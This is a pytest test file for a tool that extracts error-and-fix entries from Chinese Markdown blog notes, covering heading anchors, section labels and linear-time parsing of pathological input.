"""Error entries read out of essays: Errata's cards, and a blog's notes kept under their own headings."""

from __future__ import annotations

import re
import textwrap

import pytest

from errata.checks import check_duplicate_fingerprints, check_entries
from errata.entries import find_entries


def test_a_heading_that_names_an_error_among_other_words_is_an_entry_in_place():
    entries = find_entries("## 依赖缺失：`Could not find gem 'rails'`（下载超时）\n\n- 解决：换镜像\n")
    assert [(e.message, e.anchor, e.sections) for e in entries] == [
        ("Could not find gem 'rails'", "依赖缺失could-not-find-gem-rails下载超时", {"solution": "换镜像"})
    ]


def test_an_error_as_the_first_paragraph_under_a_heading_is_an_entry_in_place():
    entries = find_entries("# 未定义\n\n`Uncaught ReferenceError: TweenLite is not defined`\n\n- 解决方案：引入 CDN\n")
    assert [(e.message, e.heading_id, e.line) for e in entries] == [("Uncaught ReferenceError: TweenLite is not defined", "未定义", 1)]


@pytest.mark.parametrize(
    "body",
    [
        "## 依赖缺失：`Could not find gem 'rails'`\n\n换成国内镜像。\n",  # no analysis nor solution: a page's prose
        "## 安装 `numpy` 的步骤\n\n- 解决：先升级 pip\n",  # the code span names no error
        "## 依赖缺失：`Could not find gem 'rails'` { #gem }\n\n- 解决：换镜像\n",  # an id of the author's own
        "## 说明\n\n先看 `KeyError: 'a'` 这一行。\n\n- 解决：改键名\n",  # the span is part of a sentence
        "## Exception 类的继承\n\n- 原因：历史设计\n",  # a tutorial's heading names a class (an audit)
        "## Error handling\n\n- 解决：用 try\n",  # or a topic
        "## 为什么不要捕获 `Exception`\n\n- 原因：会吞掉错误\n",  # a name alone in a code span (a second audit)
        "## 自定义 `MyError` 异常类\n\n- 解决：继承 Exception\n",
        "## How to fix TypeError quickly\n\n- 解决：看类型\n",  # advice about errors
        "## 1.\n\n## 2、\n\n## (3)\n\n## 三\n\n- 解决：看类型\n",  # numbers alone (this once ended the reading)
    ],
)
def test_other_headings_are_no_entries(body):
    assert find_entries(body) == []


@pytest.mark.parametrize(
    "body",
    [
        "## 报错 `KeyError: 'a'`\n\n- 解决：一\n\n## 报错 `KeyError: 'a'`\n\n- 解决：二\n",  # the same heading twice
        "!!! note\n\n    ## 报 `KeyError: 'a'`\n\n## 报 `KeyError: 'a'`\n\n- 解决：二\n",  # once more inside an admonition
        "报 `KeyError: 'a'`\n---\n\n## 报 `KeyError: 'a'`\n\n- 解决：二\n",  # once more as a setext heading
        "## 用 [pip](https://pip.pypa.io) 装时 `KeyError: 'a'`\n\n- 解决：一\n",  # a link: the id is the rendered text's
        "## 调用 __init__ 时 `KeyError: 'a'`\n\n- 解决：一\n",  # emphasis
        "## :bug: 运行时 `KeyError: 'a'`\n\n- 解决：一\n",  # an emoji's shortcode
        "## 修复 &amp; `KeyError: 'a'`\n\n- 解决：一\n",  # an entity
        "## 报错 KeyError a\n\n## 报错 `KeyError: 'a'`\n\n- 解决：一\n",  # another heading of the same slug (a second audit)
        "## 其他 { #运行-keyerror-b }\n\n## 运行 `KeyError: 'b'`\n\n- 解决：一\n",  # an id given by hand
        "## 编译 `SyntaxError: invalid syntax { #c }`\n\n- 解决：一\n",  # a brace the raw text's slug reads as an id
    ],
)
def test_a_note_whose_heading_s_id_is_not_certain_is_no_entry_in_place(body):
    """An audit: the table of contents numbers a heading written twice (in an admonition, as a setext heading too)
    and slugs the rendered text (a link's, an emoji's, emphasis taken off); an entry whose anchor the page does
    not have would lead nowhere, so such a note stays an ordinary heading."""
    assert [e for e in find_entries(body) if e.heading_id] == []


def test_many_notes_in_place_are_read_in_linear_time():
    """An audit: each entry in place read the whole page before it again (400 of them: 34 s to read, 37 s to build)."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries("".join(f"## 报错 `KeyError: 'k{i}'` 的处理\n\n- 解决：改键名\n\n" for i in range(n))), 400)


def test_first_level_headings_over_detail_labels_are_read_in_linear_time():
    """A red-team audit: under each ``# 报错`` the search for its error's block went past the next first-level heading
    while ``报错信息：`` lines kept it going, to the page's end (999 headings, 125 KB: 19 s a reading, 45 s to build)."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries("# 报错\n报错信息：\n" * n), 1000)


def test_a_heading_of_open_brackets_is_read_in_linear_time():
    """A red-team audit: a note's heading of 40,000 ``[`` took 13 s to read (each tried to its line's end as a link's
    label), before the build refused it as too long."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries("## 报错 `Error: a b c` " + "[" * n + "\n\n解决：x\n"), 10_000)


@pytest.mark.parametrize("unit", ["报错如下：\n\n```\n$ ls\n```\n\n", "报错如下：\n", "报错如下：\n\nERROR: a b c failed\n\n"], ids=["blocks", "one paragraph", "no fix"])
def test_lines_that_say_an_error_follows_are_read_in_linear_time(unit):
    """Caught before it landed: trying each line that says an error follows, not only the first, read on to the page's
    end from each (4,000 of them: 64 s). A handful are tried, and the fix only once an error is shown."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries(unit * n + "改好了。\n"), 2000)


def test_a_card_entry_is_read_as_before():
    entries = find_entries("## `KeyError: 'bbox'`\n\n- 解决方案：检查标注\n")
    assert entries[0].heading_id == "" and entries[0].anchor.startswith("keyerror-bbox-")


def test_a_blog_s_note_in_place_passes_the_check_and_is_not_asked_to_merge():
    """Blogs note one error in several essays: the check asks no note kept in place to merge, but a new
    card that repeats one is reported."""
    note = find_entries("## 又遇到 `KeyError: 'a'`\n\n- 解决：改键名\n")
    again = find_entries("## 再记一次 `KeyError: 'a'`\n\n- 原因：键名拼错\n")
    card = find_entries("## `KeyError: 'a'`\n\n- 解决方案：改键名\n")
    for entries, name in ((note, "a.md"), (again, "b.md"), (card, "c.md")):
        for entry in entries:
            entry.source_path = name
    assert check_entries(note + again, "a.md") == []
    assert check_duplicate_fingerprints(note + again) == []
    assert [p.path for p in check_duplicate_fingerprints(note + again + card)] == ["c.md"]


def test_a_code_block_right_under_an_entry_heading_is_its_details():
    """A lookup round: ``### `java.lang.IllegalStateException` `` with the stack trace under it, unlabelled,
    had no details, so its fingerprint was the bare type and any IllegalStateException was taken for it."""
    body = ("### `java.lang.IllegalStateException`\n\n```text\njava.lang.IllegalStateException: Unable to find a "
            "@SpringBootConfiguration, you need to use @ContextConfiguration\n```\n\n- 解决方案：给测试类加上注解\n")
    entry = find_entries(body)[0]
    assert entry.details.startswith("```text\njava.lang.IllegalStateException: Unable to find")
    assert entry.fingerprint.startswith("IllegalStateException: Unable to find a @SpringBootConfiguration")


def test_the_essay_s_own_links_to_a_heading_that_became_a_card_lead_to_the_card(tmp_path):
    """A lookup round: an essay's table of contents linked ``#keyerror-bbox``; the heading became a card whose id
    is the entry's anchor, and the strict build failed on the link that led nowhere."""
    import shutil

    from conftest import ROOT
    from dev.devtools import build_site

    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
    (docs / "index.md").write_text("# 首页\n", encoding="utf-8")
    (docs / "notes.md").write_text(
        "---\ntitle: 笔记\n---\n# 笔记\n\n- [KeyError](#keyerror-bbox)\n\n## `KeyError: 'bbox'`\n\n- 解决方案：检查标注\n", encoding="utf-8"
    )
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr
    page = (tmp_path / "site/notes/index.html").read_text(encoding="utf-8")
    anchor = find_entries("## `KeyError: 'bbox'`\n\n- 解决方案：检查标注\n")[0].anchor
    assert f'href="#{anchor}"' in page and f'id="{anchor}"' in page


def test_a_plain_heading_that_names_an_error_in_english_is_an_entry_in_place():
    """A lookup round: C/C++ and Kubernetes notes name their errors as plain headings (``## DSO missing from
    command line``); with a cause or a fix under them, the lookup now leads there."""
    entries = find_entries("## DSO missing from command line\n\n#### 原因\n\n链接顺序不对。\n\n## 安装报错\n\n- 解决：重装\n")
    assert [(e.message, e.anchor, e.sections) for e in entries] == [("DSO missing from command line", "dso-missing-from-command-line", {"analysis": "链接顺序不对。"})]


def test_labels_that_start_a_paragraph_give_a_heading_entry_its_sections():
    # As real notes write them (a git guide's "常见报错", a Yuque conda note): the label starts a paragraph, its
    # words on the same line or the lines after; none of them is a list item or a heading.
    body = (
        "### fatal: remote origin already exists\n\n原因：已经存在名为 `origin` 的远程仓库。\n\n解决：\n\n"
        "```powershell\ngit remote set-url origin 新地址\n```\n\n"
        "### CondaSSLError: Encountered an SSL error\n错误详情：\n```\nCondaSSLError: Encountered an SSL error.\n```\n"
        "**解决方案**：关闭翻墙软件。\n"
    )
    entries = find_entries(body)
    assert [(e.message, e.heading_id, sorted(e.sections)) for e in entries] == [
        ("fatal: remote origin already exists", "fatal-remote-origin-already-exists", ["analysis", "solution"]),
        ("CondaSSLError: Encountered an SSL error", "condasslerror-encountered-an-ssl-error", ["details", "solution"]),
    ]
    assert entries[0].sections["analysis"] == "已经存在名为 `origin` 的远程仓库。"
    assert entries[1].sections["solution"] == "关闭翻墙软件。"


@pytest.mark.parametrize(
    "body",
    [
        "### fatal: remote origin already exists\n\nFix: run it again\n",  # English prose, no label
        "### fatal: remote origin already exists\n\n原因是远程仓库已经存在：见上文\n",  # a sentence, not a label
        "### fatal: remote origin already exists\n\n```\n原因：x\n```\n",  # inside a code block
    ],
)
def test_a_paragraph_is_a_label_only_where_it_starts_with_a_known_label_and_a_colon(body):
    # The heading is an error as git prints it, so prose under it is its fix, whole and unlabelled (the fourth lookup
    # round); none of these paragraphs is read as a label (``原因`` would make an analysis, ``Fix:`` lose its word).
    entries = find_entries(body)
    prose = body.split("\n\n", 1)[1].strip()
    assert [e.sections for e in entries] == ([] if prose.startswith("```") else [{"solution": prose}])


@pytest.mark.parametrize(
    "text",
    [
        "fatal: unable to access: OpenSSL SSL_read: Connection was reset",
        "DLL load failed while importing _ssl",
        "import _ssl_ 失败",
        "调用 __init__ 时出错",
        "snake_case_name 与 _private",
        "foo_ bar _baz",
        "_a b_ c",
        "a _b_c d",
    ],
)
def test_a_heading_s_id_is_certain_only_where_the_table_of_contents_gives_its_slug(text):
    """Round twenty-two: any underscore made a heading's id uncertain, so a note headed with ``SSL_read`` or
    ``importing _ssl`` gave no entry in place. An underscore makes emphasis only where one opens a word before
    another closes one; where the id is called certain, it is the id the page has."""
    import markdown
    from pymdownx.slugs import slugify

    from errata.entries import _slug_is_certain
    from errata.markdown_lines import heading_slug

    html = markdown.markdown("## " + text, extensions=["toc"], extension_configs={"toc": {"slugify": slugify(case="lower")}})
    page_id = re.search(r'id="([^"]*)"', html)[1]
    if _slug_is_certain(text):
        assert heading_slug(text) == page_id
    else:
        assert "<em>" in html or "<strong>" in html


def test_a_heading_that_says_it_failed_takes_its_error_from_the_code_block_under_it():
    """A lookup round on other fields (round twenty-two): notes head an error in Chinese (``### 导入报错``,
    ``#### 问题：临时文件权限问题``) and show it in the block of output under the heading; the fix follows, labelled.
    The entry's message is the block's exception line, its anchor the heading's own."""
    body = (
        "### 问题：临时文件权限问题\n```bash\nPermissionError: [Errno 13] Permission denied: '/tmp/x'\n```\n\n**解决方案：**\n\n清理临时文件。\n\n"
        "### make build 报错\n使用 `make build` 构建时，报错如下：\n```\n$ make build\nfatal: Could not read from remote repository.\nmake: *** [build] Error 1\n```\n解决：回退到 1.12。\n\n"
        "### 安装步骤\n```\nerror: this is only an example\n```\n解决：无。\n\n"
        "### 运行报错\n```\n$ ls\na.txt\n```\n解决：无。\n"
    )
    entries = find_entries(body)
    # Not a tool's last line: git's ``fatal: Could not read from remote repository.`` follows any of its errors,
    # and as an entry it took every paste of git's (the round's lookup: 5 pastes answered wrong at 1.0).
    assert [(e.message, e.heading_id) for e in entries] == [("PermissionError: [Errno 13] Permission denied: '/tmp/x'", "问题临时文件权限问题")]
    assert entries[0].sections["details"].startswith("```bash")


def test_labels_written_as_quoted_lines_or_short_phrases_name_their_sections():
    """The same round: ``> 问题产生的原因`` and ``> 如何解决`` under a heading that names the error beside a package's
    name (``#### 安装babel包，Error: Cannot find module '@babel/core' 问题``)."""
    body = "#### 安装babel包，Error: Cannot find module '@babel/core' 问题\n\n> 问题产生的原因\n\n版本不对应。\n\n> 如何解决\n\n- 卸载旧的 babel-core\n"
    (entry,) = find_entries(body)
    assert entry.message == "Error: Cannot find module '@babel/core'"
    assert entry.sections == {"analysis": "版本不对应。", "solution": "- 卸载旧的 babel-core"}


def test_under_a_heading_that_says_an_error_happened_the_first_paragraph_s_error_span_is_the_entry():
    """An importer round (twenty-two): ``## 1. Sync 时错误`` then ``Sync 时错误：`Caused by: …`。`` then ``解决方法：…``
    gave no entry: the paragraph was more than its code span. Under a heading that names no error it still is none."""
    body = (
        "## 1. Sync 时错误\n\nSync 时错误：`Caused by: org.gradle.api.internal.plugins.PluginApplicationException: Failed to apply`。\n\n"
        "解决方法：在 `gradle.properties` 中加入下面的代码。\n\n"
        "## 2. 安装\n\n运行 `pip install x` 时报 `ERROR: No matching distribution`。\n\n解决方法：换源。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "Caused by: org.gradle.api.internal.plugins.PluginApplicationException: Failed to apply"
    assert entry.heading_id == "1-sync-时错误" and "gradle.properties" in entry.sections["solution"]


def test_a_label_heading_never_starts_an_entry_of_its_own():
    """``### 详细报错信息`` says 报错 and has the traceback under it: read as a heading that says an error happened, it
    cut its card in two (the card lost its analysis and solution; the repository's own docs failed the check)."""
    body = (
        "## `OSError: [Errno 28] No space left on device`\n\n### 详细报错信息\n\n```python\nOSError: [Errno 28] No space left on device\n```\n\n"
        "### 报错原因\n\n共享内存满了：`OSError: [Errno 28] No space left`。\n\n### 解决方案\n\n调大 `--shm-size`。\n"
    )
    (entry,) = find_entries(body)
    assert set(entry.sections) == {"details", "analysis", "solution"}


def test_a_heading_that_is_a_whole_exception_is_an_entry_without_labels():
    """A second lookup round: ``### ImportError: libGL.so.1: cannot open shared object file: …`` with the fix as a code
    block and no label gave no entry. A heading that is an exception with its message is about that error; one that
    only says an error happened (the block under it holds the exception) still needs a cause or a fix labelled."""
    body = (
        "# OpenCV 常见问题\n\n### ImportError: libGL.so.1: cannot open shared object file: No such file or directory\n\n"
        "```bash\napt-get install -y libgl1\n```\n\n"
        "## 训练报错汇总\n\n```\nRuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB\n```\n\n### ValueError: bad\n\n说明。\n"
    )
    assert [e.message for e in find_entries(body)] == ["ImportError: libGL.so.1: cannot open shared object file: No such file or directory"]


def test_a_heading_s_closing_hashes_are_not_its_message():
    """A third lookup round: ``### 3.1 unable to install syscall filter ###`` (ATX headings may close with hashes)
    gave the message ``unable to install syscall filter ###``, which no paste of that error names whole."""
    body = (
        "## 4.常见错误 ##\n\n### 4.2 java.lang.OutOfMemoryError: Java heap space ###\n\n"
        "```\nException in thread \"main\" java.lang.OutOfMemoryError: Java heap space\n```\n\n原因：堆太小。\n\n解决：调大 -Xmx。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "java.lang.OutOfMemoryError: Java heap space"
    assert entry.heading_id == "42-javalangoutofmemoryerror-java-heap-space"


def test_a_label_heading_that_shows_the_error_s_symptom_leads_to_its_block():
    """A third lookup round: a note headed ``## 问题2: 插件初始化错误`` whose error stands under ``### 错误现象``
    (the symptom: what was seen) gave no entry, and ``### 错误现象`` itself became a heading that names an error."""
    body = (
        "# 排查记录\n\n## 问题2: 插件初始化错误\n\n**时间**: 2024-05-01\n\n### 错误现象\n\n"
        "```\nTypeError: Cannot read properties of undefined (reading 'config')\n    at init (plugin.js:12)\n```\n\n"
        "### 根本原因\n\n插件在配置加载前被调用。\n\n### 解决方案\n\n先加载配置。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "TypeError: Cannot read properties of undefined (reading 'config')"
    assert set(entry.sections) == {"details", "analysis", "solution"}


def test_a_heading_whose_chinese_says_an_error_happened_gives_its_english_statement_as_the_message():
    """A third lookup round: ``selenium报错Element is not clickable at point及四种解决方法`` gave no entry, the English
    naming no error word; the Chinese says one happened. A product's name in such a heading makes no entry."""
    body = (
        "# 爬虫笔记\n\n## webdriver 点击报错 Element is not clickable at point 的处理\n\n点击按钮时抛出这个异常。\n\n"
        "原因：元素被遮挡。\n\n解决：先滚动到元素，再点击。\n\n## Docker Desktop for Windows 报错\n\n原因：没开虚拟化。\n\n解决：在 BIOS 里打开。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "Element is not clickable at point"
    assert entry.heading_id == "webdriver-点击报错-element-is-not-clickable-at-point-的处理"
    assert set(entry.sections) == {"analysis", "solution"}


def test_in_a_heading_with_a_command_before_the_word_for_an_error_the_english_after_that_word_is_the_message():
    """A seventh lookup round: ``### 3. rsync 报错：unlink(.user.ini) failed: …`` (its number read as a word of
    ``rsync``) and ``问题： import paddle 报错, dlopen: …`` (a command, then the error) gave no entry: two English
    stretches, neither chosen. The one right after the word for an error is the error."""
    body = (
        "# 部署笔记\n\n### 3. rsync 报错：unlink(.user.ini) failed: Operation not permitted\n\n```\nrsync error code 23\n```\n\n"
        "**解决：** 加上 `--exclude=.user.ini`。\n\n"
        "### 问题： import paddle 报错, dlopen: cannot load any more object with static TLS, 如何解决？\n\n"
        "解决：先 import paddle，再 import 其它库。\n\n"
        "### 4. git clone 很慢 Receiving objects 只有 10 KiB/s\n\n换个镜像。\n"
    )
    assert [entry.message for entry in find_entries(body)] == [
        "unlink(.user.ini) failed: Operation not permitted",
        "dlopen: cannot load any more object with static TLS",
    ]


def test_the_english_after_the_word_for_an_error_is_not_taken_over_an_error_named_before_it():
    """The stretch after 报错 is the error where the one before is a command (``import paddle``); where the one before
    names an error itself and the one after does not, the one after says what failed (``in React useEffect hook is not
    working``): it is no entry's message."""
    from errata.entries import _error_as_heading

    assert _error_as_heading("TypeError: x is not a function 报错 in React useEffect hook is not working") is None
    assert _error_as_heading("Could not resolve host github.com 报错，git clone is not working") is None
    assert _error_as_heading("Docker Desktop for Windows 报错 WSL 2 installation is incomplete") == "WSL 2 installation is incomplete"


def test_a_note_that_is_one_error_under_label_headings_is_one_entry_at_its_problem_heading():
    """A third lookup round: a post whose headings are only ``### 问题描述`` and ``### 解决方法`` gave no entry, and no
    paste of its error found it. The page is that error's entry; the problem's heading is where it stands."""
    body = (
        "为了在内网跑起来，记录一下。\n\n### 问题描述\n\n启动服务时抛出`Failed to load tokenizer for model`的异常，日志如下：\n\n"
        "```text\nFailed to load tokenizer for model. Make sure the files are in the folder.\n```\n\n"
        "### 原因\n\n模型没有下载到本地。\n\n### 解决方法\n\n先下载模型，再改配置里的路径。\n"
    )
    (entry,) = find_entries(body, first_line=4)
    assert entry.message == "Failed to load tokenizer for model"
    assert entry.heading_id == "问题描述" and entry.line == 6 and entry.end_line == 21
    assert set(entry.sections) == {"details", "analysis", "solution"}
    assert entry.sections["solution"] == "先下载模型，再改配置里的路径。"


def test_a_page_of_label_headings_without_an_error_shown_is_no_entry():
    body = "## 问题\n\n怎么把博客部署到服务器上？\n\n## 解决方法\n\n用 rsync 同步 `site/` 目录。\n"
    assert find_entries(body) == []


def test_an_error_quoted_under_a_label_that_says_it_follows_is_the_heading_s_entry():
    """A third lookup round: ``报错内容：`` and then the error as a quote (no code block, no type)."""
    body = (
        "# 两步解决 VS Code 里 Jupyter 报错\n\n报错内容：\n\n> Unable to connect to the kernel of this notebook. Try again.\n\n"
        "**解决方案：**\n\n1. 降级 traitlets。\n2. 清空解释器路径。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "Unable to connect to the kernel of this notebook."
    assert entry.heading_id and "solution" in entry.sections


def test_an_english_statement_under_a_section_of_errors_is_an_entry():
    """A third lookup round: ``## 3.错误解决``, then ``### 3.7 max virtual memory areas vm.max_map_count [65530] likely
    too low …``: the section says its headings are errors, though no word of this one does."""
    body = (
        "## 2. 安装\n\n### 2.1 open files limit is too small for the service\n\n解决：这是一个章节，不是报错。\n\n"
        "## 3. 常见错误\n\n### 3.1 open files limit is too small for the service\n\n```\n[1]: open files limit [1024] is too small\n```\n\n解决：调大 ulimit。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "open files limit is too small for the service"
    assert entry.heading_id == "31-open-files-limit-is-too-small-for-the-service"


def test_a_bold_paragraph_that_labels_an_error_is_an_entry_the_page_keeps_and_gives_its_id():
    """A third lookup round: ``**报错：WslRegisterDistribution failed with error: 0x800706ba 解决：**``, the fix in prose
    under it, a rule, the next one. The paragraph stays as written and gets the entry's id (attr_list, on the line
    after it), so the index and the lookup lead there; a bold paragraph that names no error is none."""
    import markdown

    from errata.cards import render_essay

    body = (
        "# 服务笔记\n\n**报错：Service failed to start with error: 0x8007041D 解决：**\n\n先看事件日志，再重启服务。\n\n-----\n\n"
        "**报错：Could not write value to key HKLM/SOFTWARE/Demo.\nVerify that you have sufficient access：**\n\n原因：权限不够。\n\n以管理员身份运行。\n\n"
        "**注意：先备份注册表**\n\n备份。\n\n-----\n\n**报错：Service failed with error: 0x80070005**\n\n（没写怎么办）\n"
    )
    first, second = find_entries(body, first_line=3)  # the last says nothing of what to do: no entry, as a heading
    assert (first.message, first.line, first.id_after_line, first.heading_id) == ("Service failed to start with error: 0x8007041D", 5, 5, first.anchor)
    assert first.sections == {"solution": "先看事件日志，再重启服务。"}  # ``解决：`` ends its label: what follows is the fix
    assert second.message == "Could not write value to key HKLM/SOFTWARE/Demo. Verify that you have sufficient access"
    assert second.id_after_line == 12 and first.end_line < second.line
    page = markdown.Markdown(extensions=["attr_list"]).convert(render_essay(body, [first, second], first_line=3))
    assert f'<p id="{first.anchor}"><strong>报错：Service failed' in page
    assert f'<p id="{second.anchor}"><strong>报错：Could not write' in page
    assert "先看事件日志" in page and "备份。" in page  # nothing of the page is moved into a card


def test_a_heading_that_is_an_error_as_printed_is_an_entry_with_its_fix_in_prose():
    """A fourth lookup round: ``### 1.若出现 Error: Checksum mismatch.``, ``# ORA-00054: 资源正忙…`` and
    ``## WindowsError:[Error 6]`` had their fixes in unlabelled prose (most notes write them so), and gave no entry. A
    heading that is an error as a program prints it (with its type, as a tool's line, or by its code) is an entry where
    prose under it says what to do; a statement read from a heading's words alone still asks for labels."""
    body = (
        "# 数据库笔记\n\n## ORA-01555: 快照过旧\n\n查询时间太长，回滚段被覆盖了，把 undo_retention 调大。\n\n"
        "## 1. 若出现 Error: Checksum mismatch.\n\n```\nError: Checksum mismatch.\nExpected: 1f2e\n```\n\n删掉缓存里的这个文件，再装一次。\n\n"
        "## WindowsError:[Error 6]\n\n打包后运行报这个错，给 subprocess 加上 stdin 参数。\n\n"
        "## 数据库连不上 is not available now\n\n重启一下服务。\n"
    )
    entries = find_entries(body)
    assert [e.message for e in entries] == ["ORA-01555: 快照过旧", "Error: Checksum mismatch", "WindowsError:[Error 6]"]
    assert entries[0].sections == {"solution": "查询时间太长，回滚段被覆盖了，把 undo_retention 调大。"}
    assert entries[1].sections["solution"] == "删掉缓存里的这个文件，再装一次。" and entries[1].details.startswith("```")


def test_an_exception_a_sentence_introduces_under_a_heading_that_says_an_error_happened_is_an_entry():
    """``## 迁移时报错``, ``执行 migrate 时报错如下：``, the exception in a block, the fix in prose: an entry. A tool's last
    line there (git's ``fatal: Could not read from remote repository.``) is as often what follows the error: none."""
    body = (
        "## 迁移时报错\n\n执行 migrate 时报错如下：\n\n```\nTraceback (most recent call last):\n"
        "django.db.migrations.exceptions.InconsistentMigrationHistory: Migration admin.0001_initial is applied before its dependency\n```\n\n"
        "把 admin 的迁移记录删掉再迁移一次。\n\n## make build 报错\n\n构建时报错如下：\n\n```\n$ make build\nfatal: Could not read from remote repository.\n```\n\n"
        "原因：没有权限。\n\n解决：配好 SSH key。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message.startswith("django.db.migrations.exceptions.InconsistentMigrationHistory: Migration admin")
    assert entry.sections["solution"].endswith("把 admin 的迁移记录删掉再迁移一次。")


def test_a_code_is_an_error_only_where_printed_as_one_or_called_one():
    """A precision audit (twenty-third round): ``[A-Z]{2,5}-\\d{4,5}`` names anything numbered so, a proposal
    (``## EIP-1559: London Hard Fork Changes``), a judge's problem (``## HDU-5710 Digit-Sum 思维``), an issue; with
    prose under the heading each became an entry. A code is an error's where a message follows its colon, as a
    program prints it, or where the Chinese around calls it an error."""
    body = (
        "# 区块链与刷题笔记\n\n## EIP-1559: London Hard Fork Changes\n\n伦敦升级改变了手续费的计算方式。\n\n"
        "## EIP-1559 Support\n\n这个库支持 1559 类型的交易。\n\n"
        "## HDU-5710 Digit-Sum 思维\n\n从后往前贪心地填 9 就行了。\n\n"
        "## HBASE-23456 合并进 2.4 分支\n\n补丁已经回合。\n\n"
        "## ORA-01555: 快照过旧\n\n把 undo_retention 调大。\n\n"
        "## 连接时报错 TNS-12535\n\n检查防火墙是否放行 1521 端口。\n"
    )
    assert [e.message for e in find_entries(body)] == ["ORA-01555: 快照过旧", "TNS-12535"]


def test_a_page_under_problem_labels_needs_its_words_to_say_it_shows_an_error():
    """A precision audit (twenty-third round): a puzzle's page (``## 问题描述``, its statement in a quote, ``## 问题分析``)
    read as one error's note, the statement its message. Whatever the problem's section shows is its error only where
    the heading or the words around say so (``运行时报错：``); an exception or an error line needs no such words."""
    puzzle = (
        "# leetcode 1 两数之和\n\n## 问题描述\n\n> Given an array of integers, return indices of the two numbers.\n\n"
        "```text\nInput: nums = [2, 7, 11, 15], target = 9\nOutput: [0, 1]\n```\n\n## 问题分析\n\n用哈希表记下每个数的下标。\n"
    )
    assert find_entries(puzzle) == []
    note = puzzle.replace("> Given an array", "运行时报错：\n\n> Cannot read the array").replace("用哈希表", "解决：用哈希表")
    assert [e.message for e in find_entries(note)] == ["Cannot read the array of integers, return indices of the two numbers."]
    shown = puzzle.replace("> Given an array of integers, return indices of the two numbers.", "```\nKeyError: 'nums'\n```")
    assert [e.message for e in find_entries(shown)] == ["KeyError: 'nums'"]


def test_a_note_with_no_heading_for_its_error_is_one_entry_where_a_line_says_the_error_follows():
    """A fifth lookup round: nine pastes had notes with no heading for the error at all, only a title, ``报错如下：``, the
    error, then what was done. Such a page is one entry; the line's paragraph gets its id and the page stays as written.
    A tutorial's line about errors, or prose that only mentions one, is none."""
    from errata.cards import render_essay

    note = (
        "今天在服务器上启动 mongod，报错如下：\n```\n$ mongod --dbpath /data/db\n"
        "exception in initAndListen: 98 Unable to create/open lock file: /data/db/mongod.lock errno:13 Permission denied\n```\n\n"
        "是权限的问题，把 /data/db 的属主改成当前用户就好了。\n"
    )
    (entry,) = find_entries(note, first_line=6)
    assert entry.message.startswith("exception in initAndListen: 98 Unable to create/open lock file")
    assert entry.id_after_line == 6 and entry.sections["solution"] == "是权限的问题，把 /data/db 的属主改成当前用户就好了。"
    assert render_essay(note, [entry], first_line=6).split("\n")[1] == f"{{ #{entry.anchor} }}"
    tutorial = "Rust 里处理错误有两种方式：\n\nRust 有 `panic!` 宏，程序会打印出一个错误信息，然后退出。\n\n另一种是 `Result`。\n"
    assert find_entries(tutorial) == []
    no_fix = "运行时报错：\n\n```\nKeyError: 'a'\n```\n"
    assert find_entries(no_fix) == []


def test_a_bold_label_is_one_paragraph_and_says_the_fix_follows_only_where_one_does():
    """A red-team audit: ``**报错：… 解决：**`` with the fix under headings after it (``## 方法一``) became an entry with an
    empty fix, which the check and the build then refused (neither analysis nor solution); a bold label across a fence
    (``**报错：…``, a fence, ``解决：**``) put the entry's id line into the code block, and the index led nowhere."""
    from errata.checks import check_entries

    heading_after = "# 连接报错\n\n**报错：Connection is not allowed by the server 解决：**\n\n## 方法一：改配置\n\n把 bind-address 改成 0.0.0.0。\n"
    assert check_entries(find_entries(heading_after), "a.md") == []
    across_a_fence = "# t\n\n**报错：Connection is not allowed by the server\n```\n解决：**\n\n重启服务。\n\n```\n"
    assert find_entries(across_a_fence) == []
    for block in ("# 标题", "> 引用", "---", "===", "~~~"):
        assert find_entries(f"# t\n\n**报错：Connection is not allowed by the server\n{block} 解决：**\n\n重启服务。\n".replace(" 解决：**", "\n解决：**")) == []
    plain = find_entries("# t\n\n**报错：Connection is not allowed\nby the server 解决：**\n\n重启服务。\n")
    assert [(e.message, e.sections) for e in plain] == [("Connection is not allowed by the server", {"solution": "重启服务。"})]


def test_a_bold_label_is_read_in_linear_time_whatever_its_blanks():
    """A red-team audit: ``**报错：a is not`` + 1,000 spaces + ``x**`` (a 1 KB essay) kept the check 2 minutes: the label's
    pattern put a lazy message before three optional runs of blanks (400 spaces: 2.8 s)."""
    import time

    for blanks in (" " * 400, " \t" * 200, " " * 100_000):
        body = f"# t\n\n**报错：a is not{blanks}x**\n\n解决：重启。\n"
        start = time.perf_counter()
        find_entries(body)
        assert time.perf_counter() - start < 1
    assert find_entries("# t\n\n**报错：Connection is not allowed by the server  解决 ：  **\n\n重启服务。\n")[0].message == "Connection is not allowed by the server"


def test_a_bold_line_standing_as_a_heading_is_read_as_one_and_the_page_gives_it_the_entry_s_id():
    """A sixth lookup round: notes that keep headings for the page's parts write each error as a bold line
    (``**Execution failed for task …**``) with the fix under it, a list or prose. Such a line is read as a heading's
    words are; its paragraph gets the entry's id, on the line after it, before the list that follows at once. A bold
    line in a paragraph, or one that names no error as a program prints it, is none; nor one with a list right under
    it, which the site's Markdown reads into the same paragraph (an id line there would show as text)."""
    import markdown

    from errata.cards import render_essay

    body = (
        "# 构建问题\n\n**org.gradle.api.tasks.TaskExecutionException: Execution failed for task ':app:compileDebugJavaWithJavac'**\n\n"
        "1. 先看完整的编译输出\n2. 检查 JDK 版本和 build.gradle 里的 sourceCompatibility\n\n"
        "**Android Studio 执行 Run 安装成功，但启动的还是原来的页面**\n\n清缓存重启。\n\n"
        "说明一下，\n**Error: Cannot find module 'x'**\n这一句在段落里。\n"
    )
    (entry,) = find_entries(body, first_line=3)
    assert entry.message == "org.gradle.api.tasks.TaskExecutionException: Execution failed for task ':app:compileDebugJavaWithJavac'"
    assert (entry.line, entry.id_after_line) == (5, 5) and "JDK" in entry.sections["solution"]
